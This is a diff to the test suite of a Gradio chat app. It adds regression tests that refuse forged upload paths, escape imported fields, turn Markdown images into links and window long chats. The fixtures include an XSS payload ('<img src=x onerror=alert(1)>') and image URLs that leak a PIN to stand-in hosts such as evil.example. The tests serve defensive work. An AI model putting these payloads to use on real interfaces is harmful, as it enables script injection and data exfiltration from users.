@@ -8,6 +8,7 @@ import asyncio
 import json
 import re
 from datetime import datetime
+from pathlib import Path
 
 import pytest
 
@@ -391,6 +392,23 @@ class FakeRequest:
 SETTINGS = ("", 0.0, 1.0, 64, False, 0, None, "", 1.15)
 
 
+def uploaded(page, file) -> str:
+    """``file`` as Gradio's upload route leaves it for an event: a copy in the page's uploads
+    folder (a folder of its own per page here), listed as uploaded (the page deletes it once read)."""
+    import shutil
+    import tempfile
+
+    from minisgl_app.uploads import Uploads, upload_folder
+
+    if page.uploads.folder == upload_folder():
+        page.uploads = Uploads(Path(tempfile.mkdtemp(prefix="uploads-", dir=file.parent)))
+    folder = Path(tempfile.mkdtemp(dir=page.uploads.folder))  # Gradio: one folder per upload
+    copy = folder / file.name
+    shutil.copyfile(file, copy)
+    page.uploads.stored.add(str(copy))
+    return str(copy)
+
+
 @pytest.mark.anyio
 async def test_stop_that_reaches_the_server_before_its_message_stops_that_reply(store) -> None:
     """Enter then Stop at once: Gradio may start the two events in either order. Both carry the
@@ -530,7 +548,7 @@ async def test_a_message_sent_before_a_clicks_answer_saves_none_of_the_settings_
     notes = tmp_path / "notes.txt"
     notes.write_text("kept with A's draft\n", encoding="utf-8")
     await page.select(a, 4000.0, request, "")
-    await page.attach([str(notes)], request)
+    await page.attach([uploaded(page, notes)], request)
     await page.select(b, 5000.0, request, "")
     await page.select(a, 6000.0, request, "")
     assert await page.send("", *a_form, 6100.0, request, 6000.0) == (json.dumps({"at": 6100.0, "draft": ""}), SKIP)
@@ -559,7 +577,7 @@ async def test_a_message_sent_just_before_a_click_on_another_chat_stays_the_draf
     b_settings = store.get(b).settings
     a_form = ("Answer as a pirate.", 0.5, 1.0, 99, False, 0, None, "", 1.15)
     await page.select(a, 1000.0, request)
-    await page.attach([str(notes)], request)
+    await page.attach([uploaded(page, notes)], request)
     await page.select(b, 2000.0, request, "hello from A")  # the click, handled first
     answer = await page.send("hello from A", *a_form, 1990.0, request)  # A's Enter
     assert answer == (json.dumps({"at": 1990.0, "draft": ""}), SKIP), "A's message came back to B's box"
@@ -1028,7 +1046,7 @@ async def test_the_unanswered_marks_are_stored_in_one_transaction_with_the_messa
     def failing_add(*args, **kwargs):
         raise sqlite3.OperationalError("disk I/O error")
 
-    await page.attach([str(notes)], request)
+    await page.attach([uploaded(page, notes)], request)
     monkeypatch.setattr(store_module, "_add", failing_add)
     with pytest.raises(sqlite3.OperationalError):
         await page.send("a new question", *SETTINGS, None, request)
@@ -1043,7 +1061,7 @@ async def test_the_unanswered_marks_are_stored_in_one_transaction_with_the_messa
     # a new chat's first message: the chat and the message are one transaction too
     chats = [c.id for c in store.list()]
     await page.new_chat(None, request)
-    await page.attach([str(notes)], request)
+    await page.attach([uploaded(page, notes)], request)
     monkeypatch.setattr(store_module, "_add", failing_add)
     with pytest.raises(sqlite3.OperationalError):
         await page.send("a first question", *SETTINGS, None, request)
@@ -1536,10 +1554,10 @@ async def test_attachments_can_be_removed_and_stay_with_their_chats_draft(store,
     notes.write_text("the code is plum\n", encoding="utf-8")
     a, b = store.create(title="a").id, store.create(title="b").id
     await page.select(a, None, request)
-    line, button = await page.attach([str(notes)], request)
+    line, button = await page.attach([uploaded(page, notes)], request)
     assert "notes.txt" in line and button["visible"] is True
     assert await page.unattach(request) == ("", {"__type__": "update", "visible": False})
-    await page.attach([str(notes)], request)
+    await page.attach([uploaded(page, notes)], request)
     await page.select(b, None, request)
     assert page.tab(request).attachments == [] and said == [], said
     assert await page.attachments_note(request) == ("", {"__type__": "update", "visible": False})
@@ -1557,7 +1575,7 @@ async def test_attachments_can_be_removed_and_stay_with_their_chats_draft(store,
     await until_idle(page.replies)
     assert texts(store, a)[0] == ("user", "hello"), "the removed file went with the message"
     await page.select(b, None, request)  # B's files, then B deleted: they go with it
-    await page.attach([str(notes)], request)
+    await page.attach([uploaded(page, notes)], request)
     await page.select(a, None, request)
     await page.select(b, None, request)
     await page.delete(True, None, request)
@@ -1598,11 +1616,11 @@ async def test_the_same_file_attached_twice_goes_into_the_message_once(store, tm
     notes.write_text("the code is plum\n", encoding="utf-8")
     other.parent.mkdir()
     other.write_text("the code is pear\n", encoding="utf-8")
-    first, _ = await page.attach([str(notes)], request)
-    again, _ = await page.attach([str(notes)], request)
+    first, _ = await page.attach([uploaded(page, notes)], request)
+    again, _ = await page.attach([uploaded(page, notes)], request)
     assert again == first and first.count("notes.txt") == 1, again
     assert said == ["notes.txt is already attached: it goes into your message once."], said
-    await page.attach([str(other)], request)
+    await page.attach([uploaded(page, other)], request)
     assert len(page.tab(request).attachments) == 2 and len(said) == 1
     await page.send("read these", *SETTINGS, None, request)
     await until_idle(page.replies)
@@ -1866,7 +1884,7 @@ async def test_an_imported_chat_is_shown_as_a_click_on_it_shows_it(store, tmp_pa
     await page.select(b, 2000.0, request)
     tab = page.tab(request)
     tab.bar_note = (question.id, "the messages after it are in version 1")  # what an edit in B leaves
-    box, *_ = await page.import_chat(str(file), None, request, "B's draft")
+    box, *_ = await page.import_chat(uploaded(page, file), None, request, "B's draft")
     assert tab.conv_id not in (a, b) and draft_in(box) == "" and tab.unsent[b] == "B's draft"
     assert (tab.shown_before, tab.shown_since, tab.bar_note, tab.focus) == (b, 0.0, None, None)
 
@@ -1897,3 +1915,135 @@ async def test_an_exported_chats_file_name_keeps_the_readable_words_of_its_title
         assert Path(await page.export_json(request)).name == f"{name}.json", title
     long = export_stem("word " * 40)
     assert long.startswith("word word") and len(long) <= EXPORT_NAME_LENGTH and not long.endswith(" "), long
+
+
+@pytest.mark.anyio
+async def test_attach_and_import_read_only_files_uploaded_from_the_page(store, tmp_path, monkeypatch) -> None:
+    """Issue 41, item 1: the page is mounted (gr.mount_gradio_app), so Gradio does not check that
+    an event's file was uploaded: a forged FileData naming any server path reached Attach, and
+    the file went into the message (Import alike). Only a file that Gradio's upload route stored
+    is read; any other path is refused with a message, nothing is attached or imported, and a
+    copy Gradio made of it in the upload folder is deleted. A file read is deleted too (its text
+    is kept in the tab)."""
+    from minisgl_app import ui
+    from minisgl_app.ui import ChatPage
+    from minisgl_app.uploads import NOT_UPLOADED
+
+    page = ChatPage(FakeClient(FakeEngine()), store)
+    request = FakeRequest()
+    said: list[str] = []
+    monkeypatch.setattr(ui, "warn", said.append)
+    secret = tmp_path / "secret.txt"
+    secret.write_text("the PIN is 4321\n", encoding="utf-8")
+    notes = tmp_path / "notes.txt"
+    notes.write_text("the code is plum\n", encoding="utf-8")
+    line, _ = await page.attach([str(secret)], request)  # a forged FileData: the path as sent
+    assert page.tab(request).attachments == [] and "secret" not in line, page.tab(request).attachments
+    good = uploaded(page, notes)
+    copied = page.uploads.folder / "0123abcd" / "secret.txt"  # where Gradio copies a forged path before the handler
+    copied.parent.mkdir()
+    copied.write_text(secret.read_text())
+    line, _ = await page.attach([str(copied), good], request)
+    assert page.tab(request).attachments == [("notes.txt", "the code is plum\n")], page.tab(request).attachments
+    assert "secret" not in line and said == [f"Not attached: {NOT_UPLOADED}."] * 2, said
+    assert secret.exists(), "a file outside the upload folder is left alone"
+    assert not copied.exists() and not Path(good).exists(), "the forged copy and the file read are deleted"
+    conv = store.create(title="to export")
+    store.append(conv.id, "user", "the PIN is 4321")
+    chat = tmp_path / "chat.json"
+    chat.write_text(store.export_json(conv.id), encoding="utf-8")
+    before = len(store.list())
+    said.clear()
+    *_, note = await page.import_chat(str(chat), None, request, "")
+    assert len(store.list()) == before and note == "" and said == [f"Not imported: {NOT_UPLOADED}."], said
+    *_, note = await page.import_chat(uploaded(page, chat), None, request, "")
+    assert len(store.list()) == before + 1 and note.startswith("Imported")
+    assert list(page.uploads.folder.rglob("*.json")) == [], "the imported file is deleted once read"
+
+
+def test_an_imported_replys_model_and_stop_reason_show_as_typed_in_the_line_under_it(store) -> None:
+    """Issue 41, item 7: an imported chat's ``model`` and ``stats.stopped_by`` went into the line
+    under a reply (and its details) unescaped, while its messages' text is shown as typed:
+    "<img src=x onerror=alert(1)>**bold**" was rendered as HTML and Markdown there. Every field the
+    import brings shows as typed: each character that would start Markdown or HTML is escaped."""
+    forged = "<img src=x onerror=alert(1)>**bold**"
+    conv = store.import_conversation(json.dumps({"format": "minisgl-chat conversation", "title": "t", "messages": [
+        {"role": "user", "content": "hi"},
+        {"role": "assistant", "content": "hello", "model": forged, "stats": {"tokens": 2, "stopped": True, "stopped_by": forged}}]}))
+    [line] = [v.shown for v in view_messages(store.get(conv.id)) if v.is_line]
+    escaped = view.markdown_literal(forged)
+    assert line["metadata"]["title"] == f"2 tokens · stopped ({escaped}) · {escaped}", line
+    assert line["content"] == f"Stopped before the end ({escaped}).", line
+    for text in (line["metadata"]["title"], line["content"]):
+        assert not re.search(r"(?<!\\)<|(?<!\\)\*", text), text  # no "<" or "*" left unescaped
+
+
+def test_a_messages_images_show_as_links_and_copy_or_edit_gives_them_back_as_typed() -> None:
+    """Issue 41, item 6: a Markdown image in a message was loaded from its host as soon as the
+    chat opened. Outside code, each image shows as a link to it, naming its host ("🖼 x · image
+    from host — click to open"), and no "![" is left to start an image (a reference image, "!"
+    right before a link); in code it stays as typed. typed_text (✎, Copy) gives the text back."""
+    cases = {
+        "see ![x](http://127.0.0.1:9/exfil.png?secret=PIN4321) now": "[🖼 \u2062x\u2062 · image from 127.0.0.1 — click to open](http://127.0.0.1:9/exfil.png?secret=PIN4321)",
+        '![](//evil.example/a.png "t")': "[🖼 \u2062\u2062image from evil.example — click to open](//evil.example/a.png \"t\")",
+        "![x](rel.png)": "[🖼 \u2062x\u2062 · image — click to open](rel.png)",
+        "![a][r]\n\n[r]: http://e.example/x.png": None,
+        "!![y](http://h.example/z)": None,
+        "\\\\![a][r]": None,
+        "![a <b> c](http://x.example/y)": None,
+    }
+    for text, link in cases.items():
+        shown = view.shown_literally(text)
+        assert "![" not in shown, (text, shown)
+        if link is not None:
+            assert link in shown, (text, shown)
+        assert view.typed_text(shown) == text, (text, shown)
+    for code in ("`![x](http://e.example/y.png)`", "```\n![x](http://e.example/y.png)\n```"):
+        assert view.shown_literally(code) == code
+
+
+def test_a_long_chat_shows_its_last_messages_under_a_line_that_shows_earlier_ones(store) -> None:
+    """Issue 41, item 9: a 100,000-message chat crashed the browser's tab as it opened. The view
+    shows the last view.WINDOW messages of the path, under a line saying how many earlier ones a
+    click shows; the indexes of what is shown map to their messages."""
+    conv = store.create(title="long")
+    for i in range(450):
+        store.append(conv.id, "user" if i % 2 == 0 else "assistant", f"message {i}")
+    full = store.get(conv.id)
+    shown = view_messages(full, window=view.WINDOW)
+    assert shown[0].earlier == 250 and shown[0].source is None
+    assert "Show 200 earlier messages" in shown[0].shown["content"] and "250" in shown[0].shown["content"]
+    own = [v for v in shown[1:] if not v.is_line]
+    assert [v.source.content for v in own] == [f"message {i}" for i in range(250, 450)]
+    shown = view_messages(full, window=2 * view.WINDOW)
+    assert shown[0].earlier == 50 and "Show 50 earlier messages" in shown[0].shown["content"]
+    assert not any(v.earlier for v in view_messages(full, window=450)) and view_messages(full) == view_messages(full, window=None)
+    assert view.windowed(full, 500) == (full, 0)
+
+
+@pytest.mark.anyio
+async def test_a_click_on_the_earlier_messages_line_shows_more_and_another_chat_starts_at_the_last_ones(store) -> None:
+    """Issue 41, item 9: the line above a long chat shows view.WINDOW more messages at each click
+    (the chatbot's select event, as a click on a message); showing a chat starts at its last ones."""
+    from types import SimpleNamespace
+
+    from minisgl_app.ui import ChatPage
+
+    page = ChatPage(FakeClient(FakeEngine()), store)
+    request = FakeRequest()
+    conv = store.create(title="long")
+    for i in range(250):
+        store.append(conv.id, "user" if i % 2 == 0 else "assistant", f"message {i}")
+    other = store.create(title="other").id
+    await page.select(conv.id, 1000.0, request)
+    tab = page.tab(request)
+    chat = page.render(tab)[0]
+    assert len([m for m in chat if "metadata" not in m]) == view.WINDOW + 1 and "Show 50 earlier" in chat[0]["content"]
+    await page.focus(SimpleNamespace(index=0), request)
+    chat = page.render(tab)[0]
+    assert chat[0]["content"] == "message 0" and tab.focus is None
+    await page.focus(SimpleNamespace(index=3), request)  # a click on a message: the versions bar acts on it
+    assert tab.focus == store.get(conv.id).messages[3].id
+    await page.select(other, 2000.0, request)
+    await page.select(conv.id, 3000.0, request)
+    assert "Show 50 earlier" in page.render(tab)[0][0]["content"]
